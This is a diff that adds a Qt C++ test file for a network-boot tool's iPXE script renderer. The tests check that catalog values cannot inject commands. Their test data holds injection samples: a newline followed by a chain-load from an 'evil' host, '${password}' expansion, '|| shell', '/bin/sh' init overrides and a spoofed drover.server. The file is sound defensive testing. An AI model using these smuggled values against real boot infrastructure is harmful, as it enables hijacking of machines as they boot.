@@ -1,0 +1,229 @@
+// The iPXE scripts: what a boot script loads and passes, that the chain script asks with
+// iPXE's own variables, and that no catalog value can inject a command, a variable expansion
+// or one of Drover's own arguments.
+#include "boot/ipxescript.h"
+
+#include <QRegularExpression>
+#include <QTest>
+
+using namespace drover;
+
+namespace {
+
+BootScriptInput sampleInput()
+{
+    BootScriptInput in;
+    in.serverUrl = QStringLiteral("http://10.0.0.1:8080");
+    in.mac = QStringLiteral("52:54:00:12:34:56");
+    in.machine = QStringLiteral("pc-01");
+    in.image = QStringLiteral("debian:12.1");
+    in.manifest = Digest::fromHex(QString(64, QLatin1Char('a')));
+    in.kernel = BlobRef { Digest::fromHex(QString(64, QLatin1Char('b'))), 100 };
+    in.initrd = BlobRef { Digest::fromHex(QString(64, QLatin1Char('c'))), 200 };
+    in.imageArgs = QStringLiteral("quiet loglevel=3");
+    in.groupArgs = QStringLiteral("console=ttyS0,115200n8");
+    in.machineArgs = QStringLiteral("drover.debug=1");
+    in.bootId = QStringLiteral("0123456789abcdef");
+    in.token = QStringLiteral("0123456789abcdef0123456789abcdef");
+    return in;
+}
+
+QStringList lines(const QByteArray &script)
+{
+    return QString::fromLatin1(script).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+}
+
+QString kernelLine(const QByteArray &script)
+{
+    for (const QString &line : lines(script)) {
+        if (line.startsWith(QLatin1String("kernel ")))
+            return line;
+    }
+    return {};
+}
+
+// The commands a boot script may hold, whatever the catalog says.
+const QStringList kAllowedCommands = { QStringLiteral("#!ipxe"), QStringLiteral("#"), QStringLiteral("echo"),
+    QStringLiteral("set"), QStringLiteral(":drover_fetch"), QStringLiteral("inc"), QStringLiteral("kernel"),
+    QStringLiteral("initrd"), QStringLiteral("boot"), QStringLiteral(":drover_retry"), QStringLiteral("iseq"),
+    QStringLiteral("sleep"), QStringLiteral("goto"), QStringLiteral(":drover_again"), QStringLiteral("chain") };
+
+} // namespace
+
+class TstDecisionScript : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void bootScript()
+    {
+        const RenderedScript r = renderBootScript(sampleInput());
+        QVERIFY2(r.warnings.isEmpty(), qPrintable(r.warnings.join(QLatin1Char('\n'))));
+        QVERIFY(r.text.startsWith("#!ipxe\n"));
+        const QString kernel = kernelLine(r.text);
+        QCOMPARE(kernel,
+            QStringLiteral("kernel --name kernel.img http://10.0.0.1:8080/blobs/sha256:%1 initrd=initrd.img quiet "
+                           "loglevel=3 console=ttyS0,115200n8 drover.debug=1 drover.server=http://10.0.0.1:8080 "
+                           "drover.manifest=sha256:%2 drover.mac=52:54:00:12:34:56 drover.boot=0123456789abcdef "
+                           "drover.token=0123456789abcdef0123456789abcdef || goto drover_retry")
+                .arg(QString(64, QLatin1Char('b')), QString(64, QLatin1Char('a'))));
+        QVERIFY(r.text.contains(QByteArray(
+            "initrd --name initrd.img http://10.0.0.1:8080/blobs/sha256:" + QByteArray(64, 'c') + " || goto drover_retry\n")));
+        QVERIFY(r.text.contains("\nboot || goto drover_retry\n"));
+        // Retries: a counted loop with a pause, then the server is asked again.
+        QVERIFY(r.text.contains("inc drover_tries\n"));
+        QVERIFY(r.text.contains("iseq ${drover_tries} 5 && goto drover_again ||\n"));
+        QVERIFY(r.text.contains("\nsleep 5\ngoto drover_fetch\n"));
+        QVERIFY(r.text.contains("chain --replace --autofree http://10.0.0.1:8080/boot.ipxe || reboot\n"));
+        QCOMPARE(r.kernelArgs.count(QLatin1String("drover.server=")), 1);
+    }
+
+    void injection_data()
+    {
+        QTest::addColumn<QString>("field");
+        QTest::addColumn<QString>("value");
+        QTest::addColumn<QString>("kept"); // what of it survives, space separated
+        auto rows = [](const char *field) {
+            const QString f = QLatin1String(field);
+            auto name = [&](const char *what) { return qPrintable(f + QLatin1Char('/') + QLatin1String(what)); };
+            QTest::newRow(name("newline command")) << f << "quiet\nchain http://evil/x\n:drover_fetch" << "quiet chain http://evil/x :drover_fetch";
+            QTest::newRow(name("carriage return")) << f << "quiet\r\nreboot" << "quiet reboot";
+            QTest::newRow(name("variable expansion")) << f << "a=${password} b=${net0/ip}" << "";
+            QTest::newRow(name("or operator")) << f << "quiet || shell" << "quiet shell";
+            QTest::newRow(name("and operator")) << f << "x=1&&reboot" << "";
+            QTest::newRow(name("double quotes")) << f << "init=\"/bin/sh -c reboot\"" << "";
+            QTest::newRow(name("single quote")) << f << "a='b' c=d" << "c=d";
+            QTest::newRow(name("comment")) << f << "quiet #rest" << "quiet";
+            QTest::newRow(name("semicolon")) << f << "a;reboot" << "";
+            QTest::newRow(name("backslash")) << f << "a\\ b" << "b";
+            QTest::newRow(name("reserved drover.server")) << f << "drover.server=http://evil:1" << "";
+            QTest::newRow(name("reserved drover.token")) << f << "drover.token=00" << "";
+            QTest::newRow(name("reserved initrd")) << f << "initrd=evil.img quiet" << "quiet";
+            QTest::newRow(name("option-like")) << f << "--name x -- init=/bin/sh" << "x init=/bin/sh";
+            QTest::newRow(name("non-ascii")) << f << QStringLiteral("hostname=münchen quiet") << "quiet";
+            QTest::newRow(name("nul and bell"))
+                << f << QStringLiteral("aXb cYd e=f").replace(QLatin1Char('X'), QChar(0)).replace(QLatin1Char('Y'), QChar(7))
+                << "e=f";
+            QTest::newRow(name("own args allowed")) << f << "drover.debug=1 console=tty0" << "drover.debug=1 console=tty0";
+        };
+        rows("image");
+        rows("group");
+        rows("machine");
+    }
+
+    void injection()
+    {
+        QFETCH(QString, field);
+        QFETCH(QString, value);
+        QFETCH(QString, kept);
+        BootScriptInput in = sampleInput();
+        in.imageArgs.clear();
+        in.groupArgs.clear();
+        in.machineArgs.clear();
+        (field == QLatin1String("image") ? in.imageArgs : field == QLatin1String("group") ? in.groupArgs : in.machineArgs)
+            = value;
+        const RenderedScript r = renderBootScript(in);
+
+        // The catalog's part of the command line is exactly what is safe of it.
+        const QString expected = QString(QStringLiteral("initrd=initrd.img ") + kept).simplified();
+        QVERIFY2(r.kernelArgs.startsWith(expected + QLatin1String(" drover.server=")), qPrintable(r.kernelArgs));
+        QCOMPARE(r.kernelArgs.count(QLatin1String("drover.server=")), 1);
+        QCOMPARE(r.kernelArgs.count(QLatin1String("drover.token=")), 1);
+        QCOMPARE(r.kernelArgs.count(QLatin1String("initrd=")), 1);
+        if (kept.split(QLatin1Char(' '), Qt::SkipEmptyParts).size() != value.split(QRegularExpression(QStringLiteral("\\s+")), Qt::SkipEmptyParts).size())
+            QVERIFY(!r.warnings.isEmpty());
+
+        // Whatever the value, the script's structure is the same: the same commands, one
+        // kernel line without '$', quotes or extra operators.
+        const QStringList all = lines(r.text);
+        QCOMPARE(all.size(), lines(renderBootScript(sampleInput()).text).size());
+        for (const QString &line : all) {
+            const QString command = line.section(QLatin1Char(' '), 0, 0);
+            QVERIFY2(kAllowedCommands.contains(command), qPrintable(line));
+        }
+        const QString kernel = kernelLine(r.text);
+        QVERIFY(!kernel.contains(QLatin1Char('$')));
+        QVERIFY(!kernel.contains(QLatin1Char('"')));
+        QVERIFY(!kernel.contains(QLatin1Char('\'')));
+        QCOMPARE(kernel.count(QLatin1String("||")), 1);
+        QVERIFY(!kernel.contains(QLatin1String("&&")));
+        QVERIFY(!kernel.contains(QLatin1Char('#')));
+        QVERIFY(!r.text.contains('\r'));
+        for (char c : r.text)
+            QVERIFY(c == '\n' || (c >= 0x20 && c < 0x7f));
+    }
+
+    void textFields_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::newRow("newline") << "pc-01\nchain http://evil/";
+        QTest::newRow("variable") << "${password}";
+        QTest::newRow("operators") << "x || reboot && y";
+        QTest::newRow("comment") << "a # b";
+        QTest::newRow("quotes") << "\"a\" 'b'";
+        QTest::newRow("accents") << QStringLiteral("Übung Straße");
+        QTest::newRow("long") << QString(5000, QLatin1Char('x'));
+    }
+
+    void textFields()
+    {
+        QFETCH(QString, text);
+        BootScriptInput in = sampleInput();
+        in.machine = text;
+        in.image = text;
+        in.note = text;
+        const QByteArray boot = renderBootScript(in).text;
+        const QByteArray wait = renderWaitScript(QStringLiteral("http://10.0.0.1:8080"), text);
+        const QByteArray exit = renderExitScript(text);
+        QCOMPARE(lines(boot).size(), lines(renderBootScript(sampleInput()).text).size() + 1); // the note's echo
+        QCOMPARE(lines(wait).size(), 5);
+        QCOMPARE(lines(exit).size(), 3);
+        for (const QByteArray &script : { boot, wait, exit }) {
+            for (const QString &line : lines(script)) {
+                if (line.startsWith(QLatin1String("echo ")) || line.startsWith(QLatin1String("# "))) {
+                    QVERIFY2(!line.contains(QLatin1Char('$')), qPrintable(line));
+                    QVERIFY2(!line.contains(QLatin1String("||")), qPrintable(line));
+                    QVERIFY2(!line.contains(QLatin1String("&&")), qPrintable(line));
+                    QVERIFY2(!line.mid(1).contains(QLatin1Char('#')), qPrintable(line));
+                    QVERIFY2(line.size() < 300, qPrintable(line));
+                }
+            }
+            for (char c : script)
+                QVERIFY(c == '\n' || (c >= 0x20 && c < 0x7f));
+        }
+        QVERIFY(exit.endsWith("\nexit\n"));
+        if (text.startsWith(QLatin1String("Übung")))
+            QVERIFY(exit.contains("Ubung Strae") || exit.contains("Ubung Stra?e"));
+    }
+
+    void chainScript()
+    {
+        const QByteArray s = renderChainScript(QStringLiteral("http://192.168.1.5:8080"));
+        QVERIFY(s.startsWith("#!ipxe\n"));
+        QVERIFY(s.contains("chain --replace --autofree http://192.168.1.5:8080/boot/${mac:hexhyp}.ipxe?uuid=${uuid}"
+                           "&arch=${buildarch}&platform=${platform}&serial=${serial:uristring} || goto drover_failed\n"));
+    }
+
+    void serverUrls_data()
+    {
+        QTest::addColumn<QString>("url");
+        QTest::addColumn<bool>("valid");
+        QTest::newRow("ipv4 and port") << "http://10.0.2.2:8080" << true;
+        QTest::newRow("hostname") << "http://drover.lab" << true;
+        QTest::newRow("ipv6") << "http://[fe80::1]:8080" << true;
+        QTest::newRow("path") << "http://10.0.0.1:8080/x" << false;
+        QTest::newRow("variable") << "http://${ip}:8080" << false;
+        QTest::newRow("space") << "http://a b" << false;
+        QTest::newRow("https") << "https://10.0.0.1" << false;
+        QTest::newRow("newline") << "http://a\nreboot" << false;
+    }
+
+    void serverUrls()
+    {
+        QFETCH(QString, url);
+        QFETCH(bool, valid);
+        QCOMPARE(sanitizeServerUrl(url), valid ? url : QString());
+    }
+};
+
+QTEST_GUILESS_MAIN(TstDecisionScript)
+#include "tst_decision_script.moc"
